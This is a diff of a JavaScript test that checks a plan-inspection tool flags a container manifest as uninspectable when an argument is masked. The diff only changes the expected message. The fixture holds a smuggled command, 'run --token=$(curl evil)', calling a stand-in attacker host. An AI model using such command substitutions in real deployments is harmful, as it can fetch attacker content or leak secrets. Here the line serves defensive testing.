@@ -43,5 +43,5 @@ test('arguments that the mask hides make a plan uninspectable', async () => {
     spec: { containers: [{ name: 'main', image: 'web:1', command: ['sh', '-c', 'run --token=$(curl evil)'] }] },
   };
   const card = await cardOf('apply', { manifest: JSON.stringify(manifest) });
-  expect(card).toContain('! too large or too strange to be inspected whole');
+  expect(card).toContain('cannot be inspected whole: an argument of a program is masked');
 });
